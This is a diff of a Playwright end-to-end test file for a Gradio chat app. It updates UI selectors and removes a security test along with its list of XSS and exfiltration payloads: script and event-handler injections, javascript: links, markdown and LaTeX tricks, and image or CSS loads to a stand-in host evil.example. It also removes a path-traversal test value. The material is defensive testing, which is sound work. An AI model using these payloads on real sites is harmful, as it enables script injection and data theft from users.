@@ -10,52 +10,13 @@ import uvicorn
 from playwright.sync_api import Browser, BrowserContext, Page, expect
 
 from gradio_app.aws import Clients
-from gradio_app.chat.conversation import Answer, Conversation, new_id, plain
-from gradio_app.identity import LOCAL_USER
-from gradio_app.page.address import address_of
 from gradio_app.server import create_app
 from gradio_app.settings import Settings
-from gradio_app.store.conversations import Conversations
-from tests.gradio_app.chatting import DEADLINE, MODEL_ID, bedrock_client, until
+from tests.gradio_app.chatting import DEADLINE, MODEL_ID, bedrock_client
 from tests.gradio_app.fake_bedrock import FakeBedrock
 
 pytestmark = pytest.mark.slow
 OTHER_MODEL = "us.amazon.nova-lite-v1:0"
-
-ATTACKS = [
-    "<script>document.title = 'pwned'</script>",
-    "<img src=x onerror=\"document.title = 'pwned'\">",
-    "<img src=x onerror=document.title='pwned'//",
-    "<svg onload=\"document.title = 'pwned'\"></svg>",
-    "<svg><script>document.title = 'pwned'</script></svg>",
-    "<svg><animate onbegin=\"document.title = 'pwned'\" attributeName=x dur=1s></svg>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=\"document.title='pwned'\">",
-    "<iframe srcdoc=\"<script>parent.document.title = 'pwned'</script>\"></iframe>",
-    "<iframe src=\"javascript:parent.document.title='pwned'\"></iframe>",
-    "<object data=\"javascript:document.title='pwned'\"></object>",
-    "<embed src=\"data:text/html,<script>parent.document.title='pwned'</script>\">",
-    "<details open ontoggle=\"document.title = 'pwned'\">x</details>",
-    "<body onload=\"document.title = 'pwned'\">",
-    "<input autofocus onfocus=\"document.title = 'pwned'\">",
-    '<form action="http://evil.example/"><button id=bait>bait</button></form>',
-    "<a href=\"javascript:document.title='pwned'\">bait</a>",
-    "[bait](javascript:document.title='pwned')",
-    "[bait](JaVaScRiPt&#58;document.title='pwned')",
-    "[bait](data:text/html,<script>opener.document.title='pwned'</script>)",
-    "![leak](http://evil.example/?secret=1)",
-    '<img src="http://evil.example/?secret=2">',
-    '<img srcset="http://evil.example/?secret=3 2x" src=x>',
-    '<video src="http://evil.example/4" poster="http://evil.example/5" autoplay></video>',
-    '<link rel=stylesheet href="http://evil.example/6">',
-    "<style>@import url(http://evil.example/7); body { background: url(http://evil.example/8) }</style>",
-    '<div style="background: url(http://evil.example/9)">x</div>',
-    '<meta http-equiv=refresh content="0;url=http://evil.example/10">',
-    '<base href="http://evil.example/">',
-    "$$\\href{javascript:document.title='pwned'}{bait}$$",
-    "$$\\includegraphics{http://evil.example/11}$$",
-    "```mermaid\ngraph TD\nA[\"<img src=x onerror=document.title='pwned'>\"]\n```",
-    "```html\n<img src=x onerror=document.title='pwned'>\n```",
-]
 
 
 @pytest.fixture
@@ -135,7 +96,7 @@ def ask(page: Page, text: str, answer: str) -> None:
 
 
 def settled(page: Page) -> None:
-    expect(page.locator("#box .submit-button")).to_be_visible(timeout=DEADLINE * 1000)
+    expect(page.locator("#send")).to_be_visible(timeout=DEADLINE * 1000)
     expect(page.locator("#usage")).to_contain_text("tokens", timeout=DEADLINE * 1000)
 
 
@@ -171,7 +132,7 @@ def test_a_conversation_survives_a_reload_and_is_found_in_the_list(page: Page) -
 def test_stop_keeps_what_had_arrived_and_retry_asks_again(page: Page, fake: FakeBedrock) -> None:
     send(page, "hold")
     expect(answers(page).last).to_contain_text("first words")
-    page.locator("#box .stop-button").click()
+    page.locator("#stop").click()
     expect(answers(page).last).to_contain_text("Stopped.")
     expect(answers(page).last).to_contain_text("first words")
     settled(page)
@@ -183,7 +144,9 @@ def test_stop_keeps_what_had_arrived_and_retry_asks_again(page: Page, fake: Fake
     expect(questions(page)).to_have_count(1)
 
 
-def test_a_closed_tab_does_not_stop_its_answer(context: BrowserContext, fake: FakeBedrock) -> None:
+def test_a_closed_tab_does_not_stop_its_answer_and_another_one_follows_it(
+    context: BrowserContext, fake: FakeBedrock
+) -> None:
     page = opened(context, "/")
     send(page, "hold")
     expect(answers(page).last).to_contain_text("first words")
@@ -191,10 +154,10 @@ def test_a_closed_tab_does_not_stop_its_answer(context: BrowserContext, fake: Fa
     page.close()
     other = opened(context, address)
     expect(answers(other).last).to_contain_text("first words")
+    expect(other.locator("#stop")).to_be_visible()
     fake.go_on.set()
-    until(lambda: not fake.being_answered)
-    other.reload()
     expect(answers(other).last).to_contain_text("first words and the rest")
+    settled(other)
 
 
 def test_errors_are_told_in_the_chat_with_what_had_arrived(page: Page) -> None:
@@ -210,9 +173,11 @@ def test_errors_are_told_in_the_chat_with_what_had_arrived(page: Page) -> None:
 def test_edit_asks_anew_and_drops_what_followed(page: Page) -> None:
     ask(page, "answer: one", "one")
     ask(page, "answer: two", "two")
-    page.get_by_label("Edit").first.click()
-    page.locator("#chat textarea").fill("answer: changed")
-    page.get_by_label("Submit").first.click()
+    page.get_by_role("button", name="Edit the question").first.click()
+    editor = page.get_by_role("textbox", name="Edit the question")
+    expect(editor).to_have_value("answer: one")
+    editor.fill("answer: changed")
+    page.get_by_role("button", name="Ask the changed question").click()
     expect(answers(page).last).to_have_text("changed")
     settled(page)
     expect(answers(page)).to_have_count(1)
@@ -237,7 +202,7 @@ def test_two_tabs_do_not_overwrite_each_other(context: BrowserContext) -> None:
     ask(other, "answer: from the other", "from the other")
 
     send(one, "answer: one again")
-    expect(one.locator(".toast-wrap")).to_contain_text("changed in another tab")
+    expect(one.locator("#notice")).to_contain_text("changed in another tab")
     expect(answers(one)).to_have_text(["from one", "from the other"])
     expect(one.locator("#box textarea")).to_have_value("answer: one again")
     one.locator("#box textarea").press("Enter")
@@ -286,36 +251,35 @@ def test_the_settings_reach_the_model(page: Page, fake: FakeBedrock) -> None:
 
 @pytest.mark.parametrize(
     ("field", "value"),
-    [(4, "us.somebody-elses-model-v1:0"), (5, 7), (6, 101), (6, 0), (2, "../" + "0" * 29)],
+    [(5, "us.somebody-elses-model-v1:0"), (6, 7), (7, 101), (7, 0)],
 )
 def test_values_that_the_page_never_offers_are_refused(
     page: Page, fake: FakeBedrock, field: int, value: object
 ) -> None:
     def tamper(route: Any) -> None:
         body = route.request.post_data_json
-        if len(body["data"]) == 7:
+        if len(body["data"]) == 8:
             body["data"][field] = value
         route.continue_(post_data=body)
 
-    page.route("**/queue/join*", tamper)
+    page.route("**/run/predict*", tamper)
     send(page, "answer: hello")
-    refusal = re.compile("settings are not available|does not exist")
-    expect(page.locator(".toast-wrap")).to_contain_text(refusal, timeout=DEADLINE * 1000)
+    expect(page.locator("#notice")).to_contain_text("settings are not available", timeout=DEADLINE * 1000)
     assert fake.requests == []
     expect(page.locator("#box textarea")).to_have_value("answer: hello", timeout=DEADLINE * 1000)
-    expect(page.locator("#box .submit-button")).to_be_visible(timeout=DEADLINE * 1000)
+    expect(page.locator("#send")).to_be_visible(timeout=DEADLINE * 1000)
 
 
 def test_a_fault_of_ours_gives_the_message_back(page: Page, monkeypatch: pytest.MonkeyPatch) -> None:
     def broken(*_: object) -> None:
         raise ValueError("a fault of ours")
 
-    monkeypatch.setattr("gradio_app.chat.turns.Turns.start", broken)
+    monkeypatch.setattr("gradio_app.chat.turns.Turns._prepare", broken)
     send(page, "answer: hello")
     told = re.compile(r"went wrong on our side.*\(reference 1-[0-9a-f-]+\)")
-    expect(page.locator(".toast-wrap")).to_contain_text(told, timeout=DEADLINE * 1000)
+    expect(page.locator("#notice")).to_contain_text(told, timeout=DEADLINE * 1000)
     expect(page.locator("#box textarea")).to_have_value("answer: hello", timeout=DEADLINE * 1000)
-    expect(page.locator("#box .submit-button")).to_be_visible(timeout=DEADLINE * 1000)
+    expect(page.locator("#send")).to_be_visible(timeout=DEADLINE * 1000)
 
 
 def test_spanish(browser: Browser, site: str) -> None:
@@ -340,49 +304,6 @@ def test_on_a_phone_the_sidebar_starts_closed_and_opens(browser: Browser, site: 
     page.get_by_label("Toggle Sidebar").click()
     expect(page.locator("#box textarea")).to_be_in_viewport()
     context.close()
-
-
-@pytest.mark.asvs("1.3.5", "3.2.2")
-def test_nothing_that_the_model_writes_runs_or_calls_out(
-    context: BrowserContext, site: str, store: Conversations, fake: FakeBedrock
-) -> None:
-    outside: list[str] = []
-
-    def stay(route: Any) -> None:
-        outside.append(route.request.url)
-        route.abort()
-
-    context.route(lambda url: not url.startswith((site, "data:", "blob:")), stay)
-    conversation_id = new_id()
-    for attack in ATTACKS:
-        seen = store.head(LOCAL_USER.user_id, conversation_id) or Conversation(conversation_id)
-        number = store.ask(LOCAL_USER.user_id, seen, attack)
-        store.answer(LOCAL_USER.user_id, conversation_id, number, "", Answer(plain(f"{attack} end")))
-    page = opened(context, address_of(conversation_id))
-    expect(answers(page)).to_have_count(len(ATTACKS))
-    # Once more as it comes in pieces, each of them rendered by itself.
-    fake.word_seconds = 0.02
-    ask(page, "answer: " + "\n\n".join(ATTACKS[3:6]) + "\n\nthe end", "the end")
-    baits = page.locator("#chat a:visible", has_text="bait")
-    for number in range(baits.count()):
-        baits.nth(number).evaluate("bait => bait.click()")
-
-    for tab in context.pages:
-        assert "pwned" not in tab.title()
-    assert page.title() == "Asistente"
-    assert outside == []
-    chat = page.locator("#chat")
-    # Gradio's icons and Mermaid's drawings bring a style for themselves.
-    tags = "script, iframe, object, embed, base, meta, link, form, video, style:not(svg style)"
-    assert chat.locator(tags).count() == 0
-    expect(answers(page).first).to_contain_text("document.title = 'pwned'")
-    assert (
-        page.evaluate(
-            """[...document.querySelectorAll("#chat *")].flatMap(element => [...element.attributes])
-           .filter(({name, value}) => name.startsWith("on") || /^\\s*javascript:/i.test(value)).length"""
-        )
-        == 0
-    )
 
 
 @pytest.mark.asvs("3.4.3")
